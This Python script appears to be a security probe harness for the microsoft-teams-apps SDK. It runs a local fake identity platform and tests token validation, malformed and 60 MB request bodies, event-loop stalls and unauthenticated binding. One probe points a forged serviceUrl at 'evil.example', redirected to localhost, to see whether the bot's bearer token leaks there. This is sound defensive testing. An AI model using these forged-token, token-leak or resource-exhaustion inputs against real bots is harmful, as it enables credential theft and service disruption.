"""Meets microsoft-teams-apps with each defect of authentication and server, and prints what it does as JSON.

Run by check_reference.py, in an environment that has that SDK and `cadenza.testing`. Real HTTP for what the
SDK fetches; nothing leaves this machine.
"""

from __future__ import annotations

import asyncio
import json
import os
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
from contextlib import asynccontextmanager, contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import requests  # what msal asks with
from cadenza.api import Request
from cadenza.testing.identity import IdentityProvider
from cadenza.testing.registration import Registration
from microsoft_teams.api import JsonWebToken
from microsoft_teams.api.auth.cloud_environment import PUBLIC, with_overrides
from microsoft_teams.apps import App, FastAPIAdapter

sys.path.insert(0, str(Path(__file__).parents[1]))

from auth.activities import CLIENT_ID, SERVICE_URL, message

SECRET = "the-secret"
TENANT = "00000000-0000-0000-0000-0000000000bb"


class Platform(BaseHTTPRequestHandler):
    """The identity platform, and at every other path a service that takes what it is sent."""

    identity: IdentityProvider
    sent: list[dict[str, str]]

    def do_GET(self) -> None:
        self._answer(b"")

    def do_POST(self) -> None:
        self._answer(self.rfile.read(int(self.headers.get("content-length", 0))))

    def _answer(self, body: bytes) -> None:
        status, answer = 201, b'{"id":"1"}'
        if "/v3/" in self.path:
            self.sent.append({name.lower(): value for name, value in self.headers.items()})
        else:
            time.sleep(self.identity.delay)
            url = f"http://{self.headers['host']}{self.path}"
            reply = self.identity.answer(Request(self.command, url, dict(self.headers), body))
            status, answer = reply.status, reply.encode()
        self.send_response(status)
        self.send_header("content-type", "application/json")
        self.send_header("content-length", str(len(answer)))
        self.end_headers()
        self.wfile.write(answer)

    def log_message(self, format: str, *arguments: Any) -> None: ...


class Scene:
    """A bot of the other SDK, the platform it asks, and a client at its door."""

    def __init__(self, port: int, **options: Any) -> None:
        self.identity = Platform.identity = IdentityProvider(
            Registration(CLIENT_ID, SECRET), service_url=lambda: SERVICE_URL
        )
        self.sent = Platform.sent = []
        here = f"http://127.0.0.1:{port}"
        metadata = f"{here}/v1/.well-known/openidconfiguration"
        # The login endpoint is ours where no token of the bot's own is needed: msal insists on https.
        cloud = with_overrides(PUBLIC, openid_metadata_url=metadata, login_endpoint=here)
        self.identity.key_issuer = None
        self.adapter = FastAPIAdapter()
        defaults: dict[str, Any] = {
            "client_id": CLIENT_ID,
            "token": lambda scope, tenant: "x",
            "cloud": cloud,
        }
        self.app = App(http_server_adapter=self.adapter, **{**defaults, **options})
        self.answers = False

        @self.app.on_message  # type: ignore[untyped-decorator]  # the other SDK is not here
        async def hear(ctx: Any) -> None:
            if self.answers:
                await ctx.send("hello")

    @asynccontextmanager
    async def client(self) -> AsyncIterator[httpx.AsyncClient]:
        if not self.app._initialized:
            await self.app.initialize()
        transport = httpx.ASGITransport(app=self.adapter.app, raise_app_exceptions=False)
        async with httpx.AsyncClient(transport=transport, base_url="http://bot") as client:
            yield client

    async def post(self, token: str | None, scheme: str = "Bearer", **fields: Any) -> int:
        headers = {} if token is None else {"Authorization": f"{scheme} {token}"}
        async with self.client() as client:
            answer = await client.post("/api/messages", json=message(**fields), headers=headers)
            return int(answer.status_code)


async def longest_stall(work: Awaitable[object]) -> float:
    """For how many seconds the event loop stood still at a time."""
    longest = 0.0

    async def watch() -> None:
        nonlocal longest
        while True:
            before = time.monotonic()
            await asyncio.sleep(0.01)
            longest = max(longest, time.monotonic() - before)

    watching = asyncio.create_task(watch())
    await asyncio.sleep(0.05)
    try:
        await work
    finally:
        await asyncio.sleep(0.05)
        watching.cancel()
    return longest


@contextmanager
def msal_asks_here(port: int) -> Iterator[None]:
    """What msal asks of login.microsoftonline.com goes to the platform of the probes."""
    session_class: Any = requests.Session
    real = session_class.request
    there, here = "https://login.microsoftonline.com", f"http://127.0.0.1:{port}"

    def request(session: Any, method: str, url: str, **options: Any) -> Any:
        answer = real(session, method, url.replace(there, here), **options)
        answer._content = answer.content.replace(here.encode(), there.encode())
        return answer

    session_class.request = request
    try:
        yield
    finally:
        session_class.request = real


async def a1(port: int) -> str:
    scene = Scene(port)
    taken = 0

    async def large() -> AsyncIterator[bytes]:
        nonlocal taken
        yield b'{"text":"'
        for _ in range(60):
            taken += 1
            yield b"x" * 1_000_000
        yield b'"}'

    bad: list[str] = []
    async with scene.client() as client:
        status = (await client.post("/api/messages", content=large())).status_code
        headers = {"Authorization": f"Bearer {scene.identity.bot_token()}"}
        for body in (b"{", b"", b"[]", b"[" * 100_000):
            answer = await client.post("/api/messages", content=body, headers=headers)
            bad += [str(answer.status_code)]
    return f"{taken} MB read, then {status}; {', '.join(bad)}"


async def a2(port: int) -> str:
    scene = Scene(port)
    await scene.app.initialize()
    scene.identity.delay = 1
    stood = await longest_stall(scene.post(scene.identity.bot_token()))
    return f"stood for {stood:.0f} s"


async def a3(port: int) -> str:
    scene = Scene(port)
    for number in range(20):
        await scene.post(scene.identity.bot_token(headers={"kid": f"made-up-{number}"}))
    return f"fetches: {len(scene.identity.fetched)}"


async def a4(port: int) -> str:
    scene = Scene(port)
    scene.identity.endorsements = ["webchat"]
    return f"{await scene.post(scene.identity.bot_token())} for msteams"


async def a5(port: int) -> str:
    scene = Scene(port)
    return f"without exp: {await scene.post(scene.identity.bot_token(exp=None))}"


async def a6(port: int) -> str:
    scene = Scene(port)
    evil = f"http://evil.example:{port}/"
    claimed = await scene.post(scene.identity.bot_token(serviceurl=evil), serviceUrl=evil)
    token = scene.identity.app_token(CLIENT_ID, "https://api.botframework.com", TENANT)
    scene = Scene(port, dangerously_allow_unauthenticated_requests=True, token=lambda scope, tenant: token)
    scene.answers = True
    await scene.post(None, serviceUrl=evil)
    carried = any(one.get("authorization") == f"Bearer {token}" for one in scene.sent)
    return f"http host: {claimed}; its token {'went' if carried else 'did not go'} to evil.example"


async def a7(port: int) -> str:
    scene = Scene(port)
    return f"bearer: {await scene.post(scene.identity.bot_token(), 'bearer')}"


async def a8(port: int) -> str:
    scene = Scene(port)

    @scene.app.func  # type: ignore[untyped-decorator]
    async def work(ctx: Any) -> str:
        return str(ctx.tenant_id)

    issuer = "https://login.microsoftonline.com/made-up/v2.0"
    async with scene.client() as client:
        token = scene.identity.entra_token(tid=TENANT, iss=issuer)
        headers = {"Authorization": f"Bearer {token}", "X-Teams-App-Session-Id": "s", "X-Teams-Page-Id": "p"}
        answer = await client.post("/api/functions/work", json={}, headers=headers)
    return f"any issuer: {answer.status_code}"


async def a9(port: int) -> str:
    scene = Scene(port)
    await scene.post(scene.identity.bot_token())
    return "asked for " + ", ".join(url.rpartition("/")[2] for url in scene.identity.fetched)


async def a10(port: int) -> str:
    scene = Scene(port)
    return f"kid: {JsonWebToken(scene.identity.bot_token())._payload.kid}"


async def a11(port: int) -> str:
    scene = Scene(port, token=None, client_secret=SECRET, cloud=PUBLIC)
    with msal_asks_here(port):
        scene.identity.delay = 1
        stood = await longest_stall(scene.app._token_manager.get_bot_token())
    return f"stood for {stood:.0f} s"


async def a12(port: int) -> str:
    async def error_of(scene: Scene) -> str:
        try:
            await scene.app._token_manager.get_bot_token()
        except Exception as error:
            return f"{type(error).__name__}: {error}"
        return "none"

    opaque = await error_of(Scene(port, token=lambda scope, tenant: "opaque"))
    with msal_asks_here(port):
        wrong = await error_of(Scene(port, token=None, client_secret="wrong", cloud=PUBLIC))
    return f"opaque: {opaque}; a wrong secret: {wrong}"


async def a13(port: int) -> str:
    with tempfile.TemporaryDirectory() as folder:
        (Path(folder) / ".env").write_text("CLIENT_ID=from-the-file\n")
        (Path(folder) / "below").mkdir()
        code = "import os, microsoft_teams.apps; print(os.environ.get('CLIENT_ID'))"
        done = await asyncio.to_thread(
            subprocess.run,
            [sys.executable, "-c", code],
            cwd=Path(folder) / "below",
            env={name: value for name, value in os.environ.items() if name != "CLIENT_ID"},
            capture_output=True,
            text=True,
            check=True,
        )
    return f"CLIENT_ID: {done.stdout.strip()}"


async def a15(port: int) -> str:
    scene = Scene(port)
    async with scene.client() as client:
        health = (await client.get("/health")).status_code
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        own = free.getsockname()[1]
    scene = Scene(port, dangerously_allow_unauthenticated_requests=True)
    serving = asyncio.create_task(scene.app.start(own))
    while not (scene.adapter._server and scene.adapter._server.started):  # noqa: ASYNC110 - it tells nobody
        await asyncio.sleep(0.01)
    host = scene.adapter._server.config.host
    await scene.app.stop()
    await serving
    return f"health: {health}; unauthenticated on {host}"


PROBES: dict[str, Callable[[int], Awaitable[str]]] = {
    name.upper(): probe for name, probe in globals().copy().items() if name[0] == "a" and name[1:].isdigit()
}


async def run(port: int) -> dict[str, str]:
    said = {}
    for name, probe in PROBES.items():
        try:
            said[name] = await asyncio.wait_for(probe(port), 30)
        except Exception as error:
            said[name] = f"PROBE FAILED: {type(error).__name__}: {error}"
    return said


def main() -> None:
    resolve = socket.getaddrinfo

    def at_home(host: Any, *arguments: Any, **options: Any) -> Any:
        return resolve(
            "127.0.0.1" if host in ("evil.example", b"evil.example") else host, *arguments, **options
        )

    socket.getaddrinfo = at_home
    server = ThreadingHTTPServer(("127.0.0.1", 0), Platform)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    print(json.dumps(asyncio.run(run(server.server_address[1])), indent=1))


if __name__ == "__main__":
    main()
